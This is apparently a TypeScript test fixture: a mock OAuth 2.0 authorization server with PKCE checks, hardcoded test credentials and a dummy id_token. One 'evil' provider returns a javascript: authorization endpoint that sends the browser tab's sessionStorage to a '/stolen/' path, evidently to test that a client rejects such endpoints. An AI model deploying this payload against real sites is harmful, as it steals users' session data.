import { createHash } from 'node:crypto';
import type http from 'node:http';
import type { Received } from './api-server.ts';

/** What is asked for when a code is given out, by the code. */
const codes = new Map<string, URLSearchParams>();

/** An authorization server for `Reader` (a public client) and `Machine` with the secret `s3cret`. */
export function answerLogin(request: Received, response: http.ServerResponse): void {
  const { pathname, searchParams } = new URL(request.url, 'http://host');
  const path = pathname.replace('/v1/login/', '');
  const base = `http://${request.headers.host}/v1/login`;
  if (path === 'authorize') authorize(searchParams, response);
  else if (path.startsWith('evil/')) json(response, 200, evil(base));
  else if (path === 'token') token(new URLSearchParams(request.body), response);
  else
    json(response, 200, {
      issuer: base,
      authorization_endpoint: `${base}/authorize`,
      token_endpoint: `${base}/token`,
    });
}

/** A provider whose address for signing in is a script: run in this site, it would send all that the tab keeps. */
function evil(base: string): object {
  const theft = `fetch(${JSON.stringify(`${base}/stolen/`)}+encodeURIComponent(JSON.stringify({...sessionStorage})))`;
  return {
    issuer: `${base}/evil`,
    authorization_endpoint: `javascript:${theft}//`,
    token_endpoint: `${base}/token`,
  };
}

/** RFC 6749 section 4.1.1 with RFC 7636: agrees at once, unless the client is not known, or `Waiter`. */
function authorize(asked: URLSearchParams, response: http.ServerResponse): void {
  const back = new URL(asked.get('redirect_uri') ?? '');
  back.searchParams.set('state', asked.get('state') ?? '');
  const client = asked.get('client_id');
  if (
    (client === 'Reader' || client === 'Waiter') &&
    asked.get('code_challenge_method') === 'S256'
  ) {
    const code = `code-${codes.size}`;
    codes.set(code, asked);
    back.searchParams.set('code', code);
  } else {
    back.searchParams.set('error', 'unauthorized_client');
    back.searchParams.set('error_description', 'Who is that?');
  }
  if (client === 'Waiter') {
    const link = `<a href="${back.href.replaceAll('&', '&amp;')}">Sign in</a>`;
    response.writeHead(200, { 'content-type': 'text/html' }).end(link);
  } else response.writeHead(302, { location: back.href }).end();
}

function token(given: URLSearchParams, response: http.ServerResponse): void {
  const scope = given.get('scope') ?? '';
  const isFine = GRANTS[given.get('grant_type') ?? '']?.(given);
  if (!isFine) {
    json(response, 400, { error: 'invalid_grant', error_description: 'Not with that.' });
    return;
  }
  const name = codes.get(given.get('code') ?? '')?.get('scope') ?? scope;
  json(response, 200, {
    access_token: `${given.get('grant_type')} for ${name}`.replaceAll(' ', '-'),
    token_type: 'Bearer',
    expires_in: 600,
    // One that nothing could verify.
    id_token: 'a.b.c',
  });
}

const GRANTS: Readonly<Record<string, (given: URLSearchParams) => boolean>> = {
  authorization_code: (given) => {
    const asked = codes.get(given.get('code') ?? '');
    const hash = createHash('sha256').update(given.get('code_verifier') ?? '');
    return (
      asked?.get('code_challenge') === hash.digest('base64url') &&
      asked.get('redirect_uri') === given.get('redirect_uri')
    );
  },
  client_credentials: (given) =>
    given.get('client_id') === 'Machine' && given.get('client_secret') === 's3cret',
  password: (given) => given.get('username') === 'ann' && given.get('password') === 'pw',
};

function json(response: http.ServerResponse, status: number, body: object): void {
  response.writeHead(status, { 'content-type': 'application/json' }).end(JSON.stringify(body));
}
